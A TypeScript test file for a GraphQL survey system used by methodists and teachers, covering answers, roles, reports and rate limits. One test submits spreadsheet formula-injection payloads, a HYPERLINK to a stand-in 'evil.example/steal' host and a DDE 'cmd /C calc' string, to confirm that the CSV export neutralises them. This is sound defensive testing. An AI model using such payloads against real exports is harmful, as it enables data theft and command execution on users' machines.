import http from 'node:http';
import type { AddressInfo } from 'node:net';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildApp } from '../../app.ts';
import { createLogger } from '../../common/logger.ts';
import { openOrm } from '../../db/orm.ts';
import { buildSurvey } from '../../test/factories.ts';
import { useTestApp } from '../../test/harness.ts';
import { signIn } from '../../test/sign-in.ts';
import { Role } from '../accounts/user.entity.ts';
import { SurveyQuestionType } from './survey.entity.ts';

const LINK_LIMIT = 3;
const app = useTestApp({ surveyLinkAnswersPerHour: LINK_LIMIT });
const CREATE = `mutation($input: SurveyInput!) { createSurvey(input: $input) { id link status questions { id key text type options required } } }`;
const ANSWER = `mutation($id: ID, $link: String, $answers: [SurveyAnswerInput!]!) { answerSurvey(id: $id, link: $link, answers: $answers) }`;
const RESULTS = `query($id: ID!) { survey(id: $id) { responseCount results { responses questions { question { id } answered counts { option count } average texts } } } }`;

const NEEDS = {
  title: 'Профессиональные потребности педагогов, 2026',
  description: 'Мониторинг ИМЦ: какие темы повышения квалификации нужны в этом году',
  questions: [
    {
      text: 'Какие темы для вас актуальны?',
      type: 'MULTIPLE_CHOICE',
      options: ['Функциональная грамотность', 'ФГОС', 'Работа с детьми с ОВЗ', 'Цифровые инструменты'],
    },
    { text: 'Ваш стаж', type: 'SINGLE_CHOICE', options: ['меньше 3 лет', '3–10 лет', 'больше 10 лет'] },
    { text: 'Насколько полезны методические объединения?', type: 'SCALE' },
    { text: 'Что ещё вам нужно?', type: 'TEXT', required: false },
  ],
};
const answers = (topics: number[], experience: number, score: number, text?: string) => [
  { questionId: 'q1', choices: topics },
  { questionId: 'q2', choices: [experience] },
  { questionId: 'q3', score },
  ...(text ? [{ questionId: 'q4', text }] : []),
];

describe('needs monitoring surveys', () => {
  it('a methodist writes a survey as data; teachers answer once signed in or by the link; the results add up', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const created = await app.gql(CREATE, { input: NEEDS }, methodist.token);
    expect(created.errors).toBeUndefined();
    const survey = created.data.createSurvey;
    expect(survey.questions.map((q: { key: string }) => q.key)).toEqual(['q1', 'q2', 'q3', 'q4']);
    expect(survey.link).toMatch(/^\/surveys\/[A-Za-z0-9_-]{16}$/);
    const link = survey.link.split('/').pop();

    const teacher = await signIn(app, Role.READER);
    expect(
      (await app.gql(ANSWER, { id: survey.id, answers: answers([0, 2], 0, 4, 'Наставничество') }, teacher.token)).data?.answerSurvey,
    ).toBe(true);
    const again = await app.gql(ANSWER, { id: survey.id, answers: answers([1], 1, 5) }, teacher.token);
    expect(again.errors?.[0]?.message).toContain('уже ответили');
    expect((await app.gql(ANSWER, { link, answers: answers([0], 2, 2) })).data?.answerSurvey).toBe(true);
    expect((await app.gql(ANSWER, { id: survey.id, answers: answers([0], 2, 2) })).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');

    const results = (await app.gql(RESULTS, { id: survey.id }, methodist.token)).data.survey;
    expect(results.responseCount).toBe(2);
    const [topics, experience, usefulness, other] = results.results.questions;
    expect(topics.counts).toEqual([
      { option: 'Функциональная грамотность', count: 2 },
      { option: 'ФГОС', count: 0 },
      { option: 'Работа с детьми с ОВЗ', count: 1 },
      { option: 'Цифровые инструменты', count: 0 },
    ]);
    expect(experience.counts.map((c: { count: number }) => c.count)).toEqual([1, 0, 1]);
    expect(usefulness).toMatchObject({ answered: 2, average: 3 });
    expect(other).toMatchObject({ answered: 1, texts: ['Наставничество'] });

    // The results as a report: XLSX with shares of those who answered, and CSV.
    const auth = { authorization: `Bearer ${methodist.token}` };
    const xlsx = await fetch(`${app.url}/reports/survey-${survey.id}.xlsx`, { headers: auth });
    expect(xlsx.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
    const sheet = workbook.getWorksheet('Итоги опроса')!;
    expect(String(sheet.getCell('A1').value)).toContain(`«${NEEDS.title}»: получено ответов — 2`);
    const rows = sheet
      .getSheetValues()
      .slice(3)
      .map((row) => (row as unknown[]).slice(1));
    // The last column: how many of them came by link (the second answer did).
    expect(rows).toContainEqual(['1. Какие темы для вас актуальны?', 'несколько вариантов', 2, undefined, 1]);
    expect(rows).toContainEqual(['', 'Функциональная грамотность', 2, 100, 1]);
    expect(rows).toContainEqual(['', 'Работа с детьми с ОВЗ', 1, 50, 0]);
    expect(rows).toContainEqual(['', 'средняя оценка', 3]);
    expect(rows).toContainEqual(['', 'Наставничество', undefined, undefined, 'нет']);
    const csv = await (await fetch(`${app.url}/reports/survey-${survey.id}.csv`, { headers: auth })).text();
    expect(csv).toContain('\r\n;меньше 3 лет;1;50;0\r\n');
    // …and a sheet of the district's annual summary.
    const annual = new ExcelJS.Workbook();
    await annual.xlsx.load(
      Buffer.from(
        await (await fetch(`${app.url}/reports/annual-${new Date().getFullYear()}.xlsx`, { headers: auth })).arrayBuffer(),
      ) as never,
    );
    const surveySheets = annual.worksheets.filter((w) => w.name.startsWith('Опрос '));
    expect(surveySheets.map((w) => String(w.getCell('A1').value))).toContainEqual(
      expect.stringContaining(`«${NEEDS.title}»: получено ответов — 2`),
    );

    // Teachers find the open survey and its link in their list, but never the results.
    expect(
      (await fetch(`${app.url}/reports/survey-${survey.id}.csv`, { headers: { authorization: `Bearer ${teacher.token}` } })).status,
    ).toBe(403);
    const asTeacher = await app.gql(`query($id: ID!) { survey(id: $id) { link results { responses } } }`, { id: survey.id }, teacher.token);
    expect(asTeacher.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const teachersList = await app.gql(`{ surveys { id link answeredByMe } }`, {}, teacher.token);
    expect(teachersList.data.surveys).toContainEqual({ id: survey.id, link: survey.link, answeredByMe: true });
    const colleague = await signIn(app, Role.READER);
    expect((await app.gql(`{ surveys { id answeredByMe } }`, {}, colleague.token)).data.surveys).toContainEqual({
      id: survey.id,
      answeredByMe: false,
    });
    expect((await app.gql(`{ surveys { id } }`)).data.surveys).toEqual([]);

    await app.gql(`mutation($id: ID!) { closeSurvey(id: $id) { status } }`, { id: survey.id }, methodist.token);
    expect((await app.gql(ANSWER, { link, answers: answers([0], 2, 2) })).errors?.[0]?.message).toContain('закрыт');
    expect((await app.gql(`{ surveys { id } }`, {}, teacher.token)).data.surveys).not.toContainEqual({ id: survey.id });
  });

  it('refuses a bad survey and bad answers by field, and stores nothing for them', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const oneOption = await app.gql(
      CREATE,
      { input: { ...NEEDS, questions: [{ text: 'Выберите', type: 'SINGLE_CHOICE', options: ['да'] }] } },
      methodist.token,
    );
    expect(oneOption.errors?.[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', argument: 'input.questions[0].options' } });
    const noQuestions = await app.gql(CREATE, { input: { ...NEEDS, questions: [] } }, methodist.token);
    expect(noQuestions.errors?.[0]?.message).toContain('хотя бы один вопрос');
    const reader = await signIn(app, Role.READER);
    expect((await app.gql(CREATE, { input: NEEDS }, reader.token)).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');

    const survey = (await app.gql(CREATE, { input: NEEDS }, methodist.token)).data.createSurvey;
    const bad: Array<[unknown[], string]> = [
      [
        [
          { questionId: 'q2', choices: [0] },
          { questionId: 'q3', score: 3 },
        ],
        'обязателен',
      ],
      [answers([7], 0, 3), 'варианты — от 0 до 3'],
      [
        [
          { questionId: 'q1', choices: [0] },
          { questionId: 'q2', choices: [0, 1] },
          { questionId: 'q3', score: 3 },
        ],
        'один вариант',
      ],
      [[...answers([0], 0, 3), { questionId: 'q9', text: 'лишний' }], 'нет вопроса q9'],
    ];
    for (const [given, reason] of bad) {
      const answer = await app.gql(ANSWER, { id: survey.id, answers: given }, reader.token);
      expect(answer.errors?.[0]?.extensions?.code, reason).toBe('BAD_USER_INPUT');
      expect(answer.errors?.[0]?.message).toContain(reason);
    }
    expect((await app.gql(ANSWER, { id: survey.id, answers: answers([0], 0, 9) }, reader.token)).errors?.[0]?.extensions?.code).toBe(
      'BAD_USER_INPUT',
    );
    expect((await app.gql(RESULTS, { id: survey.id }, methodist.token)).data.survey.responseCount).toBe(0);
  });

  it('a free answer by link beginning with = or @ reaches the survey CSV as text (a leading apostrophe), and counts stay numbers', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const survey = (
      await app.gql(
        CREATE,
        {
          input: {
            title: 'Опрос с опасными ответами',
            questions: [
              { text: 'Ваше предложение', type: 'TEXT' },
              { text: 'Оценка', type: 'SCALE' },
            ],
          },
        },
        methodist.token,
      )
    ).data.createSurvey;
    const link = survey.link.split('/').pop();
    for (const text of ['=HYPERLINK("http://evil.example/steal","Подробнее")', "@SUM(1+1)*cmd|' /C calc'!A0"]) {
      expect(
        (
          await app.gql(ANSWER, {
            link,
            answers: [
              { questionId: 'q1', text },
              { questionId: 'q2', score: 2 },
            ],
          })
        ).errors,
      ).toBeUndefined();
    }
    const csv = await (
      await fetch(`${app.url}/reports/survey-${survey.id}.csv`, { headers: { authorization: `Bearer ${methodist.token}` } })
    ).text();
    const lines = csv.split('\r\n');
    expect(lines).toContain(`;"'=HYPERLINK(""http://evil.example/steal"",""Подробнее"")";;;да`);
    expect(lines).toContain(`;'@SUM(1+1)*cmd|' /C calc'!A0;;;да`);
    expect(lines).toContain(';2;2;100;2');
  });
});

describe('two surveys side by side', () => {
  it('gives every question an id of its own across surveys, in the survey and in its results, so that clients caching by id never mix them', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const ask = `mutation($input: SurveyInput!) { createSurvey(input: $input) { id questions { id text } results { questions { question { id text } } } } }`;
    const first = (
      await app.gql(
        ask,
        {
          input: {
            title: 'Первый опрос',
            questions: [
              { text: 'Нужны ли семинары?', type: 'SCALE' },
              { text: 'Какие темы?', type: 'TEXT' },
            ],
          },
        },
        methodist.token,
      )
    ).data.createSurvey;
    const second = (
      await app.gql(
        ask,
        {
          input: {
            title: 'Второй опрос',
            questions: [
              { text: 'Нужны ли курсы?', type: 'SCALE' },
              { text: 'Какие курсы?', type: 'TEXT' },
            ],
          },
        },
        methodist.token,
      )
    ).data.createSurvey;
    const ids = (survey: { questions: Array<{ id: string }> }) => survey.questions.map((q) => q.id);
    expect(ids(first).filter((id) => ids(second).includes(id))).toEqual([]);
    expect(new Set([...ids(first), ...ids(second)]).size).toBe(4);
    // The same question has the same id wherever it appears.
    expect(first.results.questions.map((r: { question: { id: string; text: string } }) => r.question)).toEqual(first.questions);
    expect(second.results.questions.map((r: { question: { id: string; text: string } }) => r.question)).toEqual(second.questions);

    // A question is answered by its id (or by its number); another survey's question is not this survey's.
    const teacher = await signIn(app, Role.READER);
    const foreign = await app.gql(ANSWER, { id: first.id, answers: [{ questionId: second.questions[0].id, score: 5 }] }, teacher.token);
    expect(foreign.errors![0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', argument: 'answers[0].questionId' } });
    expect(
      (
        await app.gql(
          ANSWER,
          {
            id: first.id,
            answers: [
              { questionId: first.questions[0].id, score: 5 },
              { questionId: 'q2', text: 'Оценивание' },
            ],
          },
          teacher.token,
        )
      ).errors,
    ).toBeUndefined();
    const results = (await app.gql(RESULTS, { id: first.id }, methodist.token)).data.survey.results;
    expect(results.questions.map((q: { answered: number }) => q.answered)).toEqual([1, 1]);
  });
});

describe('a methodist keeps surveys', () => {
  const UPDATE = `mutation($id: ID!, $input: SurveyUpdateInput!) { updateSurvey(id: $id, input: $input) { title description closesOn status questions { key text } } }`;
  const day = (offset: number) =>
    new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Moscow' }).format(new Date(Date.now() + offset * 86_400_000));

  it('edits the questions until the first answer, then only the title, note and last day; a survey past its last day is closed', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const created = (
      await app.gql(
        CREATE,
        { input: { title: 'Черновик опроса', questions: [{ text: 'Вопрос первый?', type: 'TEXT' }], closesOn: day(7) } },
        methodist.token,
      )
    ).data.createSurvey;
    const edited = await app.gql(
      UPDATE,
      {
        id: created.id,
        input: {
          title: 'Опрос о наставничестве',
          questions: [
            { text: 'Есть ли у вас наставник?', type: 'SINGLE_CHOICE', options: ['да', 'нет'] },
            { text: 'Что ещё?', type: 'TEXT', required: false },
          ],
        },
      },
      methodist.token,
    );
    expect(edited.errors).toBeUndefined();
    expect(edited.data.updateSurvey).toMatchObject({
      title: 'Опрос о наставничестве',
      closesOn: day(7),
      status: 'OPEN',
      questions: [
        { key: 'q1', text: 'Есть ли у вас наставник?' },
        { key: 'q2', text: 'Что ещё?' },
      ],
    });

    const teacher = await signIn(app, Role.READER);
    expect(
      (await app.gql(ANSWER, { id: created.id, answers: [{ questionId: 'q1', choices: [0] }] }, teacher.token)).errors,
    ).toBeUndefined();
    const late = await app.gql(
      UPDATE,
      { id: created.id, input: { questions: [{ text: 'Совсем другой вопрос?', type: 'TEXT' }] } },
      methodist.token,
    );
    expect(late.errors![0]).toMatchObject({
      message: 'Аргумент input.questions: на опрос уже ответили (1): вопросы можно только удалить, менять и добавлять нельзя',
      extensions: { argument: 'input.questions' },
    });
    const past = await app.gql(UPDATE, { id: created.id, input: { closesOn: day(-3) } }, methodist.token);
    expect(past.errors![0]!.extensions!.argument).toBe('input.closesOn');

    // The last day today: still open; once it has passed (set in the database, as time would), closed to answers.
    expect(
      (await app.gql(UPDATE, { id: created.id, input: { description: 'Срок — сегодня', closesOn: day(0) } }, methodist.token)).data
        .updateSurvey.status,
    ).toBe('OPEN');
    await app
      .em()
      .getConnection()
      .execute(`update survey set closes_on = ? where title = 'Опрос о наставничестве'`, [day(-1)]);
    const other = await signIn(app, Role.READER);
    expect(
      (await app.gql(ANSWER, { link: created.link.split('/').pop(), answers: [{ questionId: 'q1', choices: [1] }] })).errors![0]!
        .extensions!.code,
    ).toBe('FORBIDDEN');
    expect((await app.gql(`{ surveys { title } }`, {}, other.token)).data.surveys.map((s: { title: string }) => s.title)).not.toContain(
      'Опрос о наставничестве',
    );
    expect((await app.gql(`query($id: ID!) { survey(id: $id) { status } }`, { id: created.id }, methodist.token)).data.survey.status).toBe(
      'CLOSED',
    );
  });

  it('deletes a survey with its answers; refuses editing and deleting to teachers and strangers', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const created = (
      await app.gql(
        CREATE,
        { input: { title: 'Опрос на удаление', questions: [{ text: 'Нужен ли опрос?', type: 'SCALE' }] } },
        methodist.token,
      )
    ).data.createSurvey;
    const teacher = await signIn(app, Role.READER);
    await app.gql(ANSWER, { id: created.id, answers: [{ questionId: 'q1', score: 3 }] }, teacher.token);
    const attempts: Array<[string, Record<string, unknown>]> = [
      [UPDATE, { id: created.id, input: { title: 'Чужой заголовок' } }],
      [`mutation($id: ID!) { deleteSurvey(id: $id) }`, { id: created.id }],
    ];
    for (const role of [Role.READER, Role.AUTHOR, Role.EXPERT]) {
      const { token } = await signIn(app, role);
      for (const [query, variables] of attempts)
        expect((await app.gql(query, variables, token)).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    }
    for (const [query, variables] of attempts)
      expect((await app.gql(query, variables)).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    expect(
      (await app.gql(`query($id: ID!) { survey(id: $id) { title responseCount } }`, { id: created.id }, methodist.token)).data.survey,
    ).toEqual({ title: 'Опрос на удаление', responseCount: 1 });
    expect((await app.gql(`mutation($id: ID!) { deleteSurvey(id: $id) }`, { id: created.id }, methodist.token)).data.deleteSurvey).toBe(
      true,
    );
    expect((await app.gql(`query($id: ID!) { survey(id: $id) { title } }`, { id: created.id }, methodist.token)).data.survey).toBeNull();
    expect(
      await app
        .em()
        .getConnection()
        .execute(
          `select count(*)::int as n from survey_response r join survey s on s.id = r.survey_id where s.title = 'Опрос на удаление'`,
        ),
    ).toEqual([{ n: 0 }]);
  });
});

describe('drafts, scale ends and removing a question', () => {
  const UPDATE = `mutation($id: ID!, $input: SurveyUpdateInput!) { updateSurvey(id: $id, input: $input) { questions { key text } } }`;
  const OPEN = `mutation($id: ID!) { openSurvey(id: $id) { status } }`;

  it('saves a draft that takes no answers and that teachers do not see until the methodist opens it; only methodists open one', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const draft = (
      await app.gql(
        CREATE,
        { input: { title: 'Опрос-черновик', questions: [{ text: 'Готовы ли вы?', type: 'TEXT' }], draft: true } },
        methodist.token,
      )
    ).data.createSurvey;
    expect(draft.status).toBe('DRAFT');
    const teacher = await signIn(app, Role.READER);
    const token = draft.link.split('/').pop();
    const early = await app.gql(ANSWER, { link: token, answers: [{ questionId: 'q1', text: 'да' }] });
    expect(early.errors?.[0]).toMatchObject({ message: 'Опрос «Опрос-черновик» ещё не открыт', extensions: { code: 'FORBIDDEN' } });
    expect((await app.gql(`query($link: String!) { survey(link: $link) { status } }`, { link: token })).data.survey.status).toBe('DRAFT');
    expect((await app.gql(`{ surveys { title } }`, {}, teacher.token)).data.surveys.map((s: { title: string }) => s.title)).not.toContain(
      'Опрос-черновик',
    );

    for (const [who, code] of [
      [teacher.token, 'FORBIDDEN'],
      [undefined, 'UNAUTHENTICATED'],
    ] as const)
      expect((await app.gql(OPEN, { id: draft.id }, who)).errors?.[0]?.extensions?.code).toBe(code);
    expect((await app.gql(OPEN, { id: draft.id }, methodist.token)).data.openSurvey.status).toBe('OPEN');
    expect((await app.gql(OPEN, { id: draft.id }, methodist.token)).errors?.[0]).toMatchObject({
      message: 'Аргумент id: опрос уже открыт',
      extensions: { code: 'BAD_USER_INPUT' },
    });
    expect((await app.gql(ANSWER, { id: draft.id, answers: [{ questionId: 'q1', text: 'да' }] }, teacher.token)).errors).toBeUndefined();
  });

  it("keeps the words of a scale's ends, «совсем нет» and «полностью» unless the methodist wrote others, and only on scales", async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const survey = (
      await app.gql(
        `mutation($input: SurveyInput!) { createSurvey(input: $input) { questions { type lowLabel highLabel } } }`,
        {
          input: {
            title: 'Шкалы',
            questions: [
              { text: 'Насколько вы уверены?', type: 'SCALE', lowLabel: ' не уверен ', highLabel: 'уверен полностью' },
              { text: 'Насколько полезно?', type: 'SCALE' },
              { text: 'Что ещё?', type: 'TEXT', lowLabel: 'лишнее' },
            ],
          },
        },
        methodist.token,
      )
    ).data.createSurvey;
    expect(survey.questions).toEqual([
      { type: 'SCALE', lowLabel: 'не уверен', highLabel: 'уверен полностью' },
      { type: 'SCALE', lowLabel: 'совсем нет', highLabel: 'полностью' },
      { type: 'TEXT', lowLabel: null, highLabel: null },
    ]);
  });

  it('after answers, removes a question named by the ones kept, with its answers; refuses any other change of the questions and keeps everything', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const survey = (await app.gql(CREATE, { input: NEEDS }, methodist.token)).data.createSurvey;
    const teacher = await signIn(app, Role.READER);
    expect((await app.gql(ANSWER, { id: survey.id, answers: answers([0, 1], 2, 4, 'Наставник') }, teacher.token)).errors).toBeUndefined();
    const given = (keys: string[]) =>
      keys.map((key) => ({ ...NEEDS.questions[Number(key.slice(1)) - 1], key, lowLabel: 'совсем нет', highLabel: 'полностью' }));

    const refused = [
      given(['q1', 'q2', 'q3', 'q4']).map((q, i) => (i === 1 ? { ...q, text: 'Ваш педагогический стаж' } : q)),
      [...given(['q1', 'q3', 'q4']), { text: 'Новый вопрос?', type: 'TEXT' }],
      given(['q3', 'q1']),
    ];
    for (const questions of refused)
      expect((await app.gql(UPDATE, { id: survey.id, input: { questions } }, methodist.token)).errors?.[0]?.extensions?.argument).toBe(
        'input.questions',
      );
    expect((await app.gql(RESULTS, { id: survey.id }, methodist.token)).data.survey.results.questions).toHaveLength(4);

    const removed = await app.gql(UPDATE, { id: survey.id, input: { questions: given(['q1', 'q3', 'q4']) } }, methodist.token);
    expect(removed.errors).toBeUndefined();
    expect(removed.data.updateSurvey.questions).toEqual([
      { key: 'q1', text: NEEDS.questions[0]!.text },
      { key: 'q3', text: NEEDS.questions[2]!.text },
      { key: 'q4', text: NEEDS.questions[3]!.text },
    ]);
    const [stored] = await app
      .em()
      .getConnection()
      .execute(
        `select r.answers from survey_response r join survey s on s.id = r.survey_id where s.title = ? order by r.created_at desc limit 1`,
        [NEEDS.title],
      );
    expect(stored.answers).toEqual({ q1: [0, 1], q3: 4, q4: 'Наставник' });
    // The next teacher answers the questions left, by their numbers.
    const next = await signIn(app, Role.READER);
    expect(
      (
        await app.gql(
          ANSWER,
          {
            id: survey.id,
            answers: [
              { questionId: 'q1', choices: [2] },
              { questionId: 'q3', score: 5 },
            ],
          },
          next.token,
        )
      ).errors,
    ).toBeUndefined();
    expect(
      (await app.gql(RESULTS, { id: survey.id }, methodist.token)).data.survey.results.questions.map(
        (q: { answered: number }) => q.answered,
      ),
    ).toEqual([2, 2, 1]);
  });

  it('after answers, takes back a labelled scale unchanged with the other questions as they were read, and removes one beside it', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const questions = [
      { text: 'Насколько нужна помощь наставника?', type: 'SCALE', lowLabel: 'не нужна', highLabel: 'очень нужна' },
      { text: 'Ваш стаж', type: 'SINGLE_CHOICE', options: ['меньше 3 лет', '3 года и больше'] },
    ];
    const survey = (await app.gql(CREATE, { input: { title: 'Наставничество', questions } }, methodist.token)).data.createSurvey;
    const teacher = await signIn(app, Role.READER);
    expect(
      (
        await app.gql(
          ANSWER,
          {
            id: survey.id,
            answers: [
              { questionId: 'q1', score: 4 },
              { questionId: 'q2', choices: [0] },
            ],
          },
          teacher.token,
        )
      ).errors,
    ).toBeUndefined();
    const keyed = questions.map((q, i) => ({ ...q, key: `q${i + 1}` }));
    const renamed = await app.gql(UPDATE, { id: survey.id, input: { title: 'Наставничество, 2026', questions: keyed } }, methodist.token);
    expect(renamed.errors).toBeUndefined();
    const removed = await app.gql(UPDATE, { id: survey.id, input: { questions: keyed.slice(0, 1) } }, methodist.token);
    expect(removed.errors).toBeUndefined();
    expect(removed.data.updateSurvey.questions).toEqual([{ key: 'q1', text: questions[0]!.text }]);
  });
});

describe('answers by link', () => {
  const newSurvey = async () => {
    const survey = await buildSurvey(app.em(), {
      title: 'Короткий опрос по ссылке',
      questions: [
        { text: 'Оценка семинара', type: SurveyQuestionType.SCALE },
        { text: 'Комментарий', type: SurveyQuestionType.TEXT, required: false },
      ],
    });
    return { id: survey.globalId, token: survey.linkToken };
  };
  /** An answer by link from a browser: `cookie` is what it holds, the answer says what it is given back. */
  const answerByLink = async (url: string, link: string, score: number, cookie?: string) => {
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(cookie ? { cookie } : {}) },
      body: JSON.stringify({ query: ANSWER, variables: { link, answers: [{ questionId: 'q1', score }] } }),
    });
    const body = (await response.json()) as {
      data?: { answerSurvey: boolean };
      errors?: Array<{ message: string; extensions: { code: string } }>;
    };
    const given = response.headers.getSetCookie().find((c) => c.startsWith('kb_browser='));
    return { status: response.status, body, cookie: given?.split(';')[0] ?? cookie };
  };

  it('takes one answer per browser: its signed cookie refuses a second answer, also two tabs at once; a forged cookie is a new browser', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const first = await newSurvey();
    const answered = await answerByLink(app.url, first.token, 4);
    expect(answered.body.data?.answerSurvey).toBe(true);
    expect(answered.cookie).toMatch(/^kb_browser=/);
    const again = await answerByLink(app.url, first.token, 1, answered.cookie);
    expect(again.body.errors?.[0]).toMatchObject({
      message: 'С этого браузера на опрос уже ответили',
      extensions: { code: 'BAD_USER_INPUT' },
    });

    // Two tabs of the same browser at once: the database lets one in.
    const second = await newSurvey();
    const tabs = await Promise.all([
      answerByLink(app.url, second.token, 2, answered.cookie),
      answerByLink(app.url, second.token, 3, answered.cookie),
    ]);
    expect(tabs.map((t) => t.body.data?.answerSurvey ?? t.body.errors?.[0]?.message).sort()).toEqual(
      [true, 'С этого браузера на опрос уже ответили'].sort(),
    );

    // A cookie whose id was changed does not pass its signature: it is a new browser, with a new cookie.
    const value = decodeURIComponent(answered.cookie!.slice('kb_browser='.length));
    const forged = `kb_browser=${encodeURIComponent(`${value[0] === 'A' ? 'B' : 'A'}${value.slice(1)}`)}`;
    const stranger = await answerByLink(app.url, first.token, 5, forged);
    expect(stranger.body.data?.answerSurvey).toBe(true);
    expect(stranger.cookie).not.toBe(forged);
    expect((await app.gql(RESULTS, { id: first.id }, methodist.token)).data.survey.responseCount).toBe(2);
  });

  it("recognises a browser's cookie on every server of the database: the signing secret is kept in PostgreSQL", async () => {
    const survey = await newSurvey();
    const answered = await answerByLink(app.url, survey.token, 4);
    // A second server on the same database, with an ORM of its own.
    const orm = await openOrm({ databaseUrl: app.orm.config.get('clientUrl')!, poolMax: 2 });
    const other = await buildApp({
      publicUrl: () => app.url,
      orm,
      search: app.search,
      files: app.files,
      logger: createLogger('silent'),
      production: false,
      ipLimits: { any: 100_000, search: 100_000, login: 100_000, mail: 100_000 },
    });
    const server = http.createServer(other.handler);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      expect((await answerByLink(url, survey.token, 2, answered.cookie)).body.errors?.[0]?.message).toBe(
        'С этого браузера на опрос уже ответили',
      );
      expect((await answerByLink(url, survey.token, 2)).body.data?.answerSurvey).toBe(true);
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
      await other.stop();
      await orm.close();
    }
  });

  it('caps answers by link from one address to a survey per hour (SURVEY_LINK_ANSWERS_PER_HOUR), counting only accepted answers; signed-in answers and other surveys are not capped', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const survey = await newSurvey();
    // Refused answers do not count: a bad score, and a browser's second answer (refused by the database, its count rolled back).
    expect((await answerByLink(app.url, survey.token, 9)).body.errors?.[0]?.extensions.code).toBe('BAD_USER_INPUT');
    const first = await answerByLink(app.url, survey.token, 3);
    expect(first.body.data?.answerSurvey).toBe(true);
    expect((await answerByLink(app.url, survey.token, 3, first.cookie)).body.errors?.[0]?.message).toBe(
      'С этого браузера на опрос уже ответили',
    );
    for (let i = 1; i < LINK_LIMIT; i++) expect((await answerByLink(app.url, survey.token, 3)).body.data?.answerSurvey).toBe(true);
    const over = await answerByLink(app.url, survey.token, 3);
    expect(over.status).toBe(429);
    expect(over.body.errors?.[0]).toMatchObject({ extensions: { code: 'RATE_LIMITED' } });
    expect(over.body.errors?.[0]?.message).toContain(`не больше ${LINK_LIMIT} ответов по ссылке в час`);
    const teacher = await signIn(app, Role.READER);
    expect((await app.gql(ANSWER, { id: survey.id, answers: [{ questionId: 'q1', score: 5 }] }, teacher.token)).data?.answerSurvey).toBe(
      true,
    );
    expect((await answerByLink(app.url, (await newSurvey()).token, 3)).body.data?.answerSurvey).toBe(true);
    expect((await app.gql(RESULTS, { id: survey.id }, methodist.token)).data.survey.responseCount).toBe(LINK_LIMIT + 1);
  });

  it('marks in the results and the report which answers came by link and which from signed-in teachers', async () => {
    const methodist = await signIn(app, Role.METHODIST);
    const survey = await newSurvey();
    const teacher = await signIn(app, Role.READER);
    await app.gql(
      ANSWER,
      {
        id: survey.id,
        answers: [
          { questionId: 'q1', score: 5 },
          { questionId: 'q2', text: 'Войдя: всё понятно' },
        ],
      },
      teacher.token,
    );
    await app.gql(ANSWER, {
      link: survey.token,
      answers: [
        { questionId: 'q1', score: 5 },
        { questionId: 'q2', text: 'По ссылке: мало практики' },
      ],
    });
    await app.gql(ANSWER, { link: survey.token, answers: [{ questionId: 'q1', score: 2 }] });

    const results = (
      await app.gql(
        `query($id: ID!) { survey(id: $id) { results { responses byLink signedIn questions { answered answeredByLink counts { option count byLink } textAnswers { text byLink } } } } }`,
        { id: survey.id },
        methodist.token,
      )
    ).data.survey.results;
    expect(results).toMatchObject({ responses: 3, byLink: 2, signedIn: 1 });
    const [score, comment] = results.questions;
    expect(score).toMatchObject({ answered: 3, answeredByLink: 2 });
    expect(score.counts.filter((c: { count: number }) => c.count > 0)).toEqual([
      { option: '2', count: 1, byLink: 1 },
      { option: '5', count: 2, byLink: 1 },
    ]);
    expect(comment.textAnswers).toEqual([
      { text: 'Войдя: всё понятно', byLink: false },
      { text: 'По ссылке: мало практики', byLink: true },
    ]);

    const csv = await (
      await fetch(`${app.url}/reports/survey-${survey.id}.csv`, { headers: { authorization: `Bearer ${methodist.token}` } })
    ).text();
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toContain('получено ответов — 3: по ссылке без входа — 2, войдя — 1');
    expect(lines[1]).toBe('Вопрос;Вариант или ответ;Ответили;Доля, %;Из них по ссылке');
    expect(lines).toContain('1. Оценка семинара;оценка 1–5;3;;2');
    expect(lines).toContain(';5;2;66.7;1');
    expect(lines).toContain(';Войдя: всё понятно;;;нет');
    expect(lines).toContain(';По ссылке: мало практики;;;да');
  });
});
